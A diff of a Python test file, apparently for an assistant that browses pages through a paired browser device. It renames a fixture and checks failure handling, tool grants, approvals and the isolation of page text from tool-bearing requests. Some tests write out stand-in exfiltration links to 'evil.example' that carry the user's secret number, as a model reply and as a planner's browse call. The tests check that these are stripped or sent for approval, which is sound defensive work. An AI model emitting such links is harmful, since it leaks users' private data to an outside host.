@@ -1,7 +1,7 @@
 """Turns with a misbehaving model: a clear message or a repaired call, never a hang."""
 
 import json
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from uuid import uuid4
 
 import pytest
@@ -10,6 +10,7 @@ from devices import protocol as p
 from tests.client import Client, allow, browser, page
 from tests.penny import MANY, Penny
 from tests.stand_ins.articles import GRIND, WATER
+from tests.stand_ins.model_script import is_planner
 from tests.stand_ins.model_server import ModelServer, Reply, Request, ToolUse, text, tool
 
 URL = "https://coffee.example/water"
@@ -20,16 +21,8 @@ RESULTS = [
 ]
 
 
-@pytest.fixture
-def client(penny: Penny) -> Iterator[Client]:
-    """A paired fake browser without grants."""
-    penny.admin_action("devices/grant", "delete_selected")
-    with penny.client("Fake browser", tools=browser(PAGES, RESULTS), answers=allow("once")) as client:
-        yield client
-
-
-def is_planner(request: Request) -> bool:
-    return bool(request.tools)
+DESK_TOOLS = browser(PAGES, RESULTS)
+DESK_ANSWERS = allow("once")
 
 
 def failed_turn(client: Client, words: str = "Hello") -> p.TurnFailed:
@@ -53,36 +46,36 @@ def failed_turn(client: Client, words: str = "Hello") -> p.TurnFailed:
     ],
 )
 def test_a_model_that_fails_ends_the_turn_with_a_reason(
-    client: Client, model: ModelServer, reply: Reply, code: str
+    desk: Client, model: ModelServer, reply: Reply, code: str
 ) -> None:
     model.on(lambda _: True, reply)
-    frame = failed_turn(client)
+    frame = failed_turn(desk)
     assert (frame.error.code, frame.message.kind) == (code, "failure")
     assert frame.error.message in frame.message.text
 
 
-def test_what_was_written_before_the_model_broke_off_is_kept(client: Client, model: ModelServer) -> None:
+def test_what_was_written_before_the_model_broke_off_is_kept(desk: Client, model: ModelServer) -> None:
     model.on(lambda _: True, Reply(tokens=("Half ", "an ", "answer "), cut_after=2))
-    assert failed_turn(client).message.text.startswith("Half an")
+    assert failed_turn(desk).message.text.startswith("Half an")
 
 
-def test_what_no_database_can_hold_is_left_out_of_an_answer(client: Client, model: ModelServer) -> None:
+def test_what_no_database_can_hold_is_left_out_of_an_answer(desk: Client, model: ModelServer) -> None:
     model.on(lambda request: not request.tool_results, Reply(tools=(ToolUse("browse\x00\ud83d", '{"url": "\x00"}'),)))
     model.on(lambda request: bool(request.tool_results), Reply(tokens=("Nine\x00 ", "bars\ud83d")))
-    assert client.ask("How many bars?").text == "Nine bars?"
+    assert desk.ask("How many bars?").text == "Nine bars?"
 
 
-def test_the_next_turn_works_after_one_that_failed(client: Client, model: ModelServer) -> None:
+def test_the_next_turn_works_after_one_that_failed(desk: Client, model: ModelServer) -> None:
     model.on(lambda _: True, Reply(status=500), times=10)
-    failed_turn(client)
+    failed_turn(desk)
     model.reset()
-    assert "You said" in client.ask("Again").text
+    assert "You said" in desk.ask("Again").text
 
 
-def test_an_unknown_tool_is_answered_and_the_turn_goes_on(client: Client, model: ModelServer) -> None:
+def test_an_unknown_tool_is_answered_and_the_turn_goes_on(desk: Client, model: ModelServer) -> None:
     model.on(lambda r: is_planner(r) and not r.tool_results, tool("launch_rocket", target="moon"))
     model.on(lambda r: bool(r.tool_results), text("I cannot do that."))
-    assert client.ask("Fly").text == "I cannot do that."
+    assert desk.ask("Fly").text == "I cannot do that."
     assert "unknown_tool" in model.requests[-1].tool_results[0]
 
 
@@ -90,18 +83,18 @@ def test_an_unknown_tool_is_answered_and_the_turn_goes_on(client: Client, model:
     "arguments", ["{", "", "[]", '{"address": "x"}', '{"url": 5}', '{"url": "' + "x" * 9000 + '"}', "null"]
 )
 def test_malformed_arguments_are_answered_and_nothing_is_opened(
-    client: Client, model: ModelServer, arguments: str
+    desk: Client, model: ModelServer, arguments: str
 ) -> None:
     model.on(lambda r: is_planner(r) and not r.tool_results, Reply(tools=(ToolUse("browse_url", arguments),)))
     model.on(lambda r: bool(r.tool_results), text("It did not work."))
-    assert client.ask(f"Read {URL}").text == "It did not work."
-    assert not client.seen(p.ToolCall)
+    assert desk.ask(f"Read {URL}").text == "It did not work."
+    assert not desk.seen(p.ToolCall)
 
 
-def test_a_planner_that_never_stops_calling_is_stopped(client: Client, model: ModelServer) -> None:
+def test_a_planner_that_never_stops_calling_is_stopped(desk: Client, model: ModelServer) -> None:
     numbers = iter(range(100))
     model.on(is_planner, lambda _: tool("search_web", query=f"question {next(numbers)}"))
-    assert client.ask("Search without end", 60).kind == "chat"
+    assert desk.ask("Search without end", 60).kind == "chat"
     assert len([r for r in model.requests if is_planner(r)]) <= 8
 
 
@@ -114,15 +107,15 @@ def test_a_planner_that_never_stops_calling_is_stopped(client: Client, model: Mo
         '{"found": true, "headline": "x", "summary": "", "claims": [{"text": "a", "quote": "not there"}]}',
     ],
 )
-def test_a_reader_that_answers_badly_once_is_asked_again(client: Client, model: ModelServer, bad: str) -> None:
+def test_a_reader_that_answers_badly_once_is_asked_again(desk: Client, model: ModelServer, bad: str) -> None:
     model.on(_is_reader, text(bad), times=1)
-    answer = client.ask(f"How is espresso brewed? {URL}", 30)
+    answer = desk.ask(f"How is espresso brewed? {URL}", 30)
     assert WATER.paragraphs[0] in answer.text
 
 
-def test_a_reader_that_always_answers_badly_brings_no_content(client: Client, model: ModelServer) -> None:
+def test_a_reader_that_always_answers_badly_brings_no_content(desk: Client, model: ModelServer) -> None:
     model.on(_is_reader, text("Here is the page: nine bars of espresso!"))
-    answer = client.ask(f"How is espresso brewed? {URL}", 30)
+    answer = desk.ask(f"How is espresso brewed? {URL}", 30)
     assert len([r for r in model.requests if _is_reader(r)]) == 2
     assert "nine bars" not in answer.text
     assert "reading_invalid" in _last_planner(model).tool_results[0]
@@ -132,18 +125,18 @@ def test_a_reader_that_always_answers_badly_brings_no_content(client: Client, mo
 # -----------------------------------------------------------------------------------------------------
 
 
-def test_no_request_with_tools_holds_a_word_of_a_page(client: Client, model: ModelServer) -> None:
-    client.ask(f"How is espresso brewed? {URL}", 30)
-    client.ask("What did you just tell me?")
-    client.ask("Please search for espresso", 30)
+def test_no_request_with_tools_holds_a_word_of_a_page(desk: Client, model: ModelServer) -> None:
+    desk.ask(f"How is espresso brewed? {URL}", 30)
+    desk.ask("What did you just tell me?")
+    desk.ask("Please search for espresso", 30)
     words = [WATER.title, *WATER.paragraphs, "The grind", GRIND.title, *GRIND.paragraphs]
     for request in [r for r in model.requests if is_planner(r)]:
         assert [word for word in words if word[:30] in request.everything] == []
 
 
-def test_no_request_that_holds_a_page_has_tools_or_history(client: Client, model: ModelServer) -> None:
-    client.ask("My secret number is 4711")
-    client.ask(f"How is espresso brewed? {URL}", 30)
+def test_no_request_that_holds_a_page_has_tools_or_history(desk: Client, model: ModelServer) -> None:
+    desk.ask("My secret number is 4711")
+    desk.ask(f"How is espresso brewed? {URL}", 30)
     with_page = [r for r in model.requests if WATER.paragraphs[0][:30] in r.everything]
     assert len(with_page) >= 2
     for request in with_page:
@@ -151,27 +144,27 @@ def test_no_request_that_holds_a_page_has_tools_or_history(client: Client, model
         assert "4711" not in request.everything
 
 
-def test_an_answer_from_a_page_is_labelled_with_its_domain(client: Client) -> None:
-    answer = client.ask(f"How is espresso brewed? {URL}", 30)
+def test_an_answer_from_a_page_is_labelled_with_its_domain(desk: Client) -> None:
+    answer = desk.ask(f"How is espresso brewed? {URL}", 30)
     assert "coffee.example" in answer.origin
 
 
-def test_an_address_that_a_writer_makes_up_is_dropped(client: Client, model: ModelServer) -> None:
+def test_an_address_that_a_writer_makes_up_is_dropped(desk: Client, model: ModelServer) -> None:
     leak = "See [this](https://evil.example/?q=4711) and https://evil.example/x and ![i](https://evil.example/i.png)."
     model.on(lambda r: "Readings:" in r.last_user, text(leak))
-    answer = client.ask(f"How is espresso brewed? {URL}", 30)
+    answer = desk.ask(f"How is espresso brewed? {URL}", 30)
     assert "evil.example" not in answer.html.replace("&", "")
 
 
-def test_an_address_that_the_planner_makes_up_is_asked_about(client: Client, model: ModelServer) -> None:
+def test_an_address_that_the_planner_makes_up_is_asked_about(desk: Client, model: ModelServer) -> None:
     model.on(lambda r: is_planner(r) and not r.tool_results, tool("browse_url", url="https://evil.example/?q=4711"))
     model.on(lambda r: bool(r.tool_results), text("Done."))
-    turn = client.say("Tell me something")
-    ask = client.expect(p.ApprovalAsk)
+    turn = desk.say("Tell me something")
+    ask = desk.expect(p.ApprovalAsk)
     assert "evil.example" in ask.text
-    client.send(p.ApprovalAnswer(request_id=ask.request_id, decision="deny"))
-    client.expect(p.TurnDone, turn_id=turn)
-    assert not client.seen(p.ToolCall)
+    desk.send(p.ApprovalAnswer(request_id=ask.request_id, decision="deny"))
+    desk.expect(p.TurnDone, turn_id=turn)
+    assert not desk.seen(p.ToolCall)
 
 
 # Tools
@@ -184,21 +177,21 @@ def test_no_tool_is_offered_while_no_browser_is_connected(penny: Penny, model: M
     assert [tool for r in model.requests for tool in r.tools if tool in ("browse_url", "search_web")] == []
 
 
-def test_no_tool_is_offered_where_tool_use_is_off(client: Client, model: ModelServer) -> None:
+def test_no_tool_is_offered_where_tool_use_is_off(desk: Client, model: ModelServer) -> None:
     ref = uuid4()
-    client.send(p.DeviceUpdate(ref=ref, tool_use=False))
-    client.expect(p.Ack, ref=str(ref))
-    client.ask(f"Read {URL}")
-    assert not client.seen(p.ToolCall)
+    desk.send(p.DeviceUpdate(ref=ref, tool_use=False))
+    desk.expect(p.Ack, ref=str(ref))
+    desk.ask(f"Read {URL}")
+    assert not desk.seen(p.ToolCall)
     assert "browse_url" not in model.requests[0].tools
 
 
-def test_a_grant_is_asked_for_before_a_page_is_opened(penny: Penny, client: Client) -> None:
-    client.ask(f"How is espresso brewed? {URL}", 30)
-    kinds = [frame.type for frame in client.frames if frame.type in ("grant.ask", "grant.dismiss", "tool.call")]
+def test_a_grant_is_asked_for_before_a_page_is_opened(penny: Penny, desk: Client) -> None:
+    desk.ask(f"How is espresso brewed? {URL}", 30)
+    kinds = [frame.type for frame in desk.frames if frame.type in ("grant.ask", "grant.dismiss", "tool.call")]
     assert kinds[0] == "grant.ask"
     assert sorted(kinds[1:]) == ["grant.dismiss", "tool.call"]  # from two processes, in either order
-    ask = client.seen(p.GrantAsk)[0]
+    ask = desk.seen(p.GrantAsk)[0]
     assert (ask.host, ask.capability) == ("coffee.example", "read")
 
 
@@ -224,38 +217,38 @@ def test_the_final_address_of_a_search_is_checked_again_too(penny: Penny, model:
     assert not any(GRIND.paragraphs[0][:30] in r.everything for r in model.requests)
 
 
-def test_a_browser_that_disconnects_fails_its_call_at_once(penny: Penny, client: Client) -> None:
+def test_a_browser_that_disconnects_fails_its_call_at_once(penny: Penny, desk: Client) -> None:
     with penny.client("Leaving browser", tools={"browse_url": lambda _: None}, answers=allow("once")) as leaving:
-        client.send(p.DeviceUpdate(ref=(ref := uuid4()), tool_use=False))
-        client.expect(p.Ack, ref=str(ref))
+        desk.send(p.DeviceUpdate(ref=(ref := uuid4()), tool_use=False))
+        desk.expect(p.Ack, ref=str(ref))
         turn = leaving.say(f"How is espresso brewed? {URL}")
         leaving.expect(p.ToolCall)
         leaving.close()
-    end = client.expect(p.TurnDone, 20, turn_id=turn)
+    end = desk.expect(p.TurnDone, 20, turn_id=turn)
     assert end.message.text
 
 
-def test_a_cancelled_turn_cancels_its_call_in_the_browser(penny: Penny, client: Client) -> None:
-    client.tools["browse_url"] = lambda _: None
-    turn = client.say(f"How is espresso brewed? {URL}")
-    call = client.expect(p.ToolCall)
-    client.send(p.TurnCancel(turn_id=turn))
-    client.expect(p.ToolCancel, call_id=call.call_id)
-    assert client.expect(p.TurnFailed, turn_id=turn).error.code == "cancelled"
+def test_a_cancelled_turn_cancels_its_call_in_the_browser(penny: Penny, desk: Client) -> None:
+    desk.tools["browse_url"] = lambda _: None
+    turn = desk.say(f"How is espresso brewed? {URL}")
+    call = desk.expect(p.ToolCall)
+    desk.send(p.TurnCancel(turn_id=turn))
+    desk.expect(p.ToolCancel, call_id=call.call_id)
+    assert desk.expect(p.TurnFailed, turn_id=turn).error.code == "cancelled"
 
 
-def test_an_answer_of_another_device_or_a_second_one_is_an_error(penny: Penny, client: Client) -> None:
-    client.tools["browse_url"] = lambda _: None
-    client.say(f"How is espresso brewed? {URL}")
-    call = client.expect(p.ToolCall)
+def test_an_answer_of_another_device_or_a_second_one_is_an_error(penny: Penny, desk: Client) -> None:
+    desk.tools["browse_url"] = lambda _: None
+    desk.say(f"How is espresso brewed? {URL}")
+    call = desk.expect(p.ToolCall)
     result = p.ToolResult(call_id=call.call_id, result=PAGES[URL])
     with penny.client("Other") as other:
         other.send(result)
         assert other.expect(p.Error, ref=str(call.call_id))
-    client.send(result)
-    client.expect(p.Ack, ref=str(call.call_id))
-    client.send(result)
-    assert client.expect(p.Error, ref=str(call.call_id))
+    desk.send(result)
+    desk.expect(p.Ack, ref=str(call.call_id))
+    desk.send(result)
+    assert desk.expect(p.Error, ref=str(call.call_id))
 
 
 def test_a_question_that_nobody_answers_means_not_now_and_is_not_called_a_no(penny: Penny, model: ModelServer) -> None:
@@ -275,13 +268,11 @@ def test_a_question_that_nobody_answers_means_not_now_and_is_not_called_a_no(pen
     assert "coffee.example" not in penny.http.get("/admin/devices/grant/").text
 
 
-def test_a_host_is_not_asked_for_more_often_than_the_owner_set(
-    penny: Penny, client: Client, model: ModelServer
-) -> None:
+def test_a_host_is_not_asked_for_more_often_than_the_owner_set(penny: Penny, desk: Client, model: ModelServer) -> None:
     penny.set("RATE_PER_HOST_MINUTE", 1)
     try:
-        client.ask(f"How is espresso brewed? {URL}", 30)
-        client.ask(f"And again: {URL}", 30)
+        desk.ask(f"How is espresso brewed? {URL}", 30)
+        desk.ask(f"And again: {URL}", 30)
     finally:
         penny.set("RATE_PER_HOST_MINUTE", MANY)
     assert "rate_limited" in _last_planner(model).tool_results[0]
